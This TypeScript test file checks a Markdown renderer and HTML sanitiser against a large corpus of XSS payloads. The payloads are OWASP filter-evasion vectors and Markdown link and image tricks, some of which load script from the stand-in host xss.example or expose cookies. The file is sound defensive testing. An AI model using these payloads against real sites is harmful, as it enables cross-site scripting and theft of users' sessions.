/**
 * Hostile input for entry Markdown. Every output is parsed with happy-dom (a DOM independent of the
 * jsdom the sanitiser runs on) and inspected for anything that could run script, load a frame or
 * restyle the page.
 *
 * Source of the HTML vectors: OWASP, "XSS Filter Evasion Cheat Sheet" (OWASP Cheat Sheet Series).
 * The vectors are reproduced from memory, not copied from the page, so spellings may differ from
 * the published text; the cheat sheet's own host name is replaced by `xss.example` (reserved,
 * RFC 2606). The Markdown vectors are common practice, no source: the ways Markdown can smuggle a
 * URL or markup (inline, reference and auto links, entity-encoded schemes, HTML blocks, nesting).
 */
import { Window } from 'happy-dom';
import { afterAll, describe, expect, it } from 'vitest';
import { renderInline, renderMarkdown, sanitiseHtml, stripMarkdown } from './index';

const PREFIX = '/o/fernhollow/attachments/';

// Elements an entry body may contain; anything else is a finding.
const ALLOWED_ELEMENTS = new Set([
	'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'ul', 'ol', 'li', 'table',
	'thead', 'tbody', 'tr', 'th', 'td', 'img', 'a', 'em', 'strong', 'del', 'code'
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'src', 'alt', 'title', 'align', 'start', 'class', 'rel']);
// Named in the requirements; also covered by the allow-list, listed so a finding says which.
const FORBIDDEN_ELEMENTS = [
	'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'style', 'link', 'meta',
	'base', 'svg', 'math', 'form', 'input', 'button', 'textarea', 'select', 'template', 'h1'
];
const URL_ATTRIBUTES = [
	'href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data', 'srcset',
	'lowsrc', 'dynsrc', 'cite'
];

// One window for the file; each check parses into a fresh detached container.
const window = new Window();
afterAll(() => window.close());

/** Parses `html` as body content, the way the entry page places it. */
function parse(html: string) {
	const container = window.document.createElement('div');
	container.innerHTML = html;
	return container;
}

/** Every problem found in `html`, as readable strings; empty when the output is safe. */
function findDangers(html: string): string[] {
	const root = parse(html);
	const found: string[] = [];
	for (const name of FORBIDDEN_ELEMENTS) {
		if (root.querySelector(name)) found.push(`<${name}> element`);
	}
	for (const el of Array.from(root.querySelectorAll('*'))) {
		const tag = el.tagName.toLowerCase();
		if (!ALLOWED_ELEMENTS.has(tag)) found.push(`element <${tag}> outside the allow-list`);
		for (const attr of Array.from(el.attributes)) {
			const name = attr.name.toLowerCase();
			if (name.startsWith('on')) found.push(`event handler ${name} on <${tag}>`);
			if (name === 'style') found.push(`style attribute on <${tag}>`);
			if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`attribute ${name} on <${tag}>`);
		}
		for (const name of URL_ATTRIBUTES) {
			const value = el.getAttribute(name);
			if (value === null) continue;
			// Browsers drop ASCII tab/newline anywhere and spaces/controls at the ends before
			// reading a scheme (WHATWG URL).
			const squeezed = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
			if (/^(javascript|data|vbscript|livescript|file|jar|mocha):/.test(squeezed)) {
				found.push(`dangerous URL in ${name} on <${tag}>: ${value}`);
			}
			try {
				const protocol = new URL(value, 'https://page.example/o/fernhollow/entries/1').protocol;
				if (!['http:', 'https:', 'mailto:'].includes(protocol)) {
					found.push(`scheme ${protocol} in ${name} on <${tag}>`);
				}
			} catch {
				// Unparsable: a browser would not follow it either.
			}
		}
		if (tag === 'img' && !(el.getAttribute('src') ?? '').startsWith(PREFIX)) {
			found.push(`image from outside our attachments: ${el.getAttribute('src')}`);
		}
		if (tag === 'a' && /^(https?:)?\/\//i.test(el.getAttribute('href') ?? '')) {
			const rel = (el.getAttribute('rel') ?? '').split(/\s+/);
			for (const needed of ['noopener', 'noreferrer', 'nofollow']) {
				if (!rel.includes(needed)) found.push(`external link without rel=${needed}`);
			}
		}
	}
	return found;
}

// OWASP XSS Filter Evasion Cheat Sheet vectors (from memory; see the header).
const OWASP: [string, string][] = [
	['basic script', `<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`],
	[
		'polyglot',
		`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`
	],
	['image with javascript', `<IMG SRC="javascript:alert('XSS');">`],
	['no quotes and no semicolon', `<IMG SRC=javascript:alert('XSS')>`],
	['case-insensitive scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
	['HTML entities', `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
	['grave accent', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
	['malformed A tag', `<a onmouseover="alert(document.cookie)">xxs link</a>`],
	['malformed IMG tag', `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
	['fromCharCode', `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
	['default SRC to get past filters', `<IMG SRC=# onmouseover="alert('xxs')">`],
	['default SRC by leaving it empty', `<IMG SRC= onmouseover="alert('xxs')">`],
	['leaving SRC out entirely', `<IMG onmouseover="alert('xxs')">`],
	['on error alert', `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
	[
		'IMG onerror with encoded javascript',
		`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`
	],
	[
		'decimal character references',
		`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`
	],
	[
		'decimal references without semicolons',
		`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`
	],
	[
		'hexadecimal references without semicolons',
		`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`
	],
	['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
	['embedded encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
	['embedded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
	['embedded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
	['null breaks up javascript', `<IMG SRC=java\u0000script:alert("XSS")>`],
	['spaces and meta characters before the scheme', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
	['non-alpha-non-digit in tag name', `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`],
	['non-alpha-non-digit before handler', `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`],
	['slash as separator', `<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>`],
	['extraneous open brackets', `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
	['no closing script tag', `<SCRIPT SRC=http://xss.example/xss.js?< B >`],
	['protocol resolution in script tag', `<SCRIPT SRC=//xss.example/.j>`],
	['half open HTML/JavaScript', `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
	['double open angle brackets', `<iframe src=http://xss.example/scriptlet.html <`],
	['escaping JavaScript escapes', `\\";alert('XSS');//`],
	['end title tag', `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
	['INPUT image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
	['BODY image', `<BODY BACKGROUND="javascript:alert('XSS')">`],
	['IMG dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
	['IMG lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
	[
		'list-style-image',
		`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`
	],
	['VBscript in an image', `<IMG SRC='vbscript:msgbox("XSS")'>`],
	['livescript', `<IMG SRC="livescript:[code]">`],
	['SVG onload', `<svg/onload=alert('XSS')>`],
	['BODY tag', `<BODY ONLOAD=alert('XSS')>`],
	['BGSOUND', `<BGSOUND SRC="javascript:alert('XSS');">`],
	['& JavaScript includes', `<BR SIZE="&{alert('XSS')}">`],
	['style sheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
	['remote style sheet', `<STYLE>@import'http://xss.example/xss.css';</STYLE>`],
	['META refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
	[
		'META refresh with data',
		`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`
	],
	['IFRAME', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
	['IFRAME event based', `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`],
	['FRAME', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
	['TABLE background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
	['TD background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
	['DIV background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
	[
		'DIV background-image with unicode escapes',
		`<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`
	],
	['DIV expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
	['STYLE with broken-up JavaScript', `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`],
	['IMG STYLE with expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
	['STYLE tag', `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`],
	['BASE tag', `<BASE HREF="javascript:alert('XSS');//">`],
	['OBJECT tag', `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`],
	[
		'EMBED with SVG data',
		`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`
	],
	[
		'XML data island with comment-split scheme',
		`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`
	],
	['downlevel-hidden block', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
	[
		'HTML+TIME',
		`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`
	],
	['anchor with javascript location', `<A HREF="javascript:document.location='http://xss.example/'">XSS</A>`],
	['script with > in attribute', `<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>`],
	['script with quoted attribute', `<SCRIPT ="blah" SRC="httx://xss.example/xss.js"></SCRIPT>`],
	[
		'script written in two halves',
		`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.example/xss.js"></SCRIPT>`
	],
	['anchor with data URL', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
	['form action', `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`],
	['iframe srcdoc', `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
	['math/style mutation', `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
	['details ontoggle', `<details open ontoggle=alert(1)>x</details>`]
];

// Markdown-specific vectors (common practice, no source).
const MARKDOWN: [string, string][] = [
	['inline link to javascript', `[click](javascript:alert(1))`],
	['inline link, upper case scheme', `[click](JAVASCRIPT:alert(1))`],
	['inline link, decimal-encoded scheme', `[click](&#106;avascript:alert(1))`],
	['inline link, encoded colon', `[click](javascript&#58;alert(1))`],
	['inline link, named-entity colon', `[click](javascript&colon;alert(1))`],
	['inline link, encoded tab in scheme', `[click](jav&#x09;ascript:alert(1))`],
	['inline link, percent-encoded scheme', `[click](%6Aavascript:alert(1))`],
	['inline link in angle brackets', `[click](<javascript:alert(1)>)`],
	['inline link with title', `[click](javascript:alert(1) "title")`],
	['link title breaking out', `[click](https://ok.example "x\\" onmouseover=\\"alert(1))`],
	['link URL breaking out', `[click](https://ok.example/"onmouseover="alert(1))`],
	['link to vbscript', `[click](vbscript:msgbox(1))`],
	['link to data', `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`],
	['link to file', `[click](file:///etc/passwd)`],
	['backslash host', `[click](\\\\xss.example/a)`],
	['image to javascript', `![x](javascript:alert(1))`],
	['image to data SVG', `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`],
	['image from another site', `![tracking pixel](https://xss.example/pixel.png)`],
	['image protocol-relative', `![x](//xss.example/pixel.png)`],
	['image escaping our prefix with ..', `![x](/o/fernhollow/attachments/../../other/attachments/a.png)`],
	['image escaping our prefix with %2e%2e', `![x](/o/fernhollow/attachments/%2e%2e/%2e%2e/other/attachments/a.png)`],
	['image from another organisation', `![x](/o/elsewhere/attachments/a.png)`],
	['image src breaking out', `![x](/o/fernhollow/attachments/a.png"onerror="alert(1))`],
	['image alt breaking out', `![x" onerror="alert(1)](/o/fernhollow/attachments/a.png)`],
	['autolink javascript', `<javascript:alert(1)>`],
	['autolink vbscript', `<vbscript:msgbox(1)>`],
	['autolink data', `<data:text/html,<script>alert(1)</script>>`],
	['reference link to javascript', `[a][1]\n\n[1]: javascript:alert(1)`],
	['shortcut reference to data', `[a]\n\n[a]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
	['reference image to javascript', `![a][img]\n\n[img]: javascript:alert(1)`],
	['reference with encoded scheme', `[a][r]\n\n[r]: &#x6A;avascript:alert(1)`],
	['HTML block with script', `<div>\n<script>alert(1)</script>\n</div>`],
	['HTML block then Markdown', `<div onclick="alert(1)">\n\n*text*\n\n</div>`],
	['inline HTML in paragraph', `hello <img src=x onerror=alert(1)> world`],
	['HTML comment hiding script', `<!-- --><script>alert(1)</script><!-- -->`],
	['style block', `<style>body{background:url(javascript:alert(1))}</style>`],
	['nested quotes with script', `> > > <script>alert(1)</script>`],
	['nested quotes with link', `> > [x](javascript:alert(1))\n> > > ![y](javascript:alert(2))`],
	['list item with HTML', `- <iframe src="javascript:alert(1)"></iframe>\n- [x](vbscript:1)`],
	['table cell with HTML', `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |`],
	['emphasis around SVG', `*<svg onload=alert(1)>*`],
	['HTML in link text', `[<img src=x onerror=alert(1)>](https://ok.example)`],
	['link inside link', `[[x](javascript:alert(1))](https://ok.example)`],
	['mailto breaking out', `[m](mailto:a@b.example?subject=x"onclick="alert(1))`],
	['malformed split tag', `<scr<script>ipt>alert(1)</scr</script>ipt>`],
	['unclosed tag', `<img src="x" onerror="alert(1)"`],
	['doubled brackets', `<<img src=x onerror=alert(1)>>`],
	['code fence closing the pre', '```\n</code></pre><script>alert(1)</script>\n```'],
	['code fence language injection', '```"><script>alert(1)</script>\nx\n```'],
	['code span with script', '`<script>alert(1)</script>`'],
	['setext heading with HTML', `<svg onload=alert(1)>\n===`],
	['task list item', `- [x] <img src=x onerror=alert(1)>`],
	['escaped brackets', `\\<script>alert(1)\\</script>`],
	['entity-encoded tag', `&lt;script&gt;alert(1)&lt;/script&gt;`]
];

const CORPUS = [...OWASP.map(([n, v]) => [`OWASP: ${n}`, v]), ...MARKDOWN.map(([n, v]) => [`Markdown: ${n}`, v])];

describe('the danger check itself', () => {
	// A check that cannot fail proves nothing: each of these must be reported.
	it.each([
		['<script>alert(1)</script>', '<script>'],
		['<img src=x onerror=alert(1)>', 'onerror'],
		['<a href="java\tscript:alert(1)">x</a>', 'dangerous URL'],
		['<a href="data:text/html,x">x</a>', 'dangerous URL'],
		['<iframe src="/x"></iframe>', '<iframe>'],
		['<p style="color:red">x</p>', 'style attribute'],
		['<svg><circle/></svg>', '<svg>'],
		['<a href="https://xss.example/">x</a>', 'rel=noopener'],
		['<img src="https://xss.example/a.png">', 'outside our attachments'],
		['<h1>x</h1>', '<h1>']
	])('reports %s', (html, expected) => {
		const found = findDangers(html);
		expect(found.join('\n')).toContain(expected);
	});
});

describe.each(CORPUS)('%s', (_name, input) => {
	it('renders as a body with nothing active', () => {
		expect(findDangers(renderMarkdown(input, { attachmentPrefix: PREFIX }))).toEqual([]);
	});

	it('renders as a one-line field with nothing active', () => {
		expect(findDangers(renderInline(input, { attachmentPrefix: PREFIX }))).toEqual([]);
	});

	it('stays safe as raw HTML through the sanitiser alone', () => {
		expect(findDangers(sanitiseHtml(input, { attachmentPrefix: PREFIX }))).toEqual([]);
	});

	it('strips to the same words a reader sees', () => {
		// The search text is plain text (raw HTML in it is the literal text shown on the page), so
		// it must match the rendered body's text, not reintroduce anything the renderer dropped.
		const shown = (parse(renderMarkdown(input)).textContent ?? '').replace(/\s+/g, ' ').trim();
		expect(stripMarkdown(input).replace(/\s+/g, ' ').trim()).toBe(shown);
	});
});

describe('raw HTML in an entry', () => {
	it('is shown as the text that was written, not interpreted', () => {
		const root = parse(renderMarkdown('Probe <script>alert(1)</script> here'));
		expect(root.querySelector('script')).toBeNull();
		expect(root.textContent).toContain('<script>alert(1)</script>');
	});
});

describe('refused links and images', () => {
	it('keeps the text of a refused link', () => {
		expect(renderMarkdown('[open the log](javascript:alert(1))')).toBe('<p>open the log</p>\n');
	});

	it('shows a refused image as its alt text', () => {
		expect(renderMarkdown('![C12 bulging](https://xss.example/c12.png)', { attachmentPrefix: PREFIX })).toBe(
			'<p>C12 bulging</p>\n'
		);
	});

	it('shows no image at all without an attachment prefix', () => {
		expect(renderMarkdown(`![board](${PREFIX}a.png)`)).toBe('<p>board</p>\n');
	});

	it('sanitises raw HTML to the same rules when the sanitiser is used alone', () => {
		const out = sanitiseHtml('<p onclick="x" style="color:red">ok <a href="javascript:alert(1)">bad</a></p>');
		expect(out).toBe('<p>ok bad</p>');
	});
});
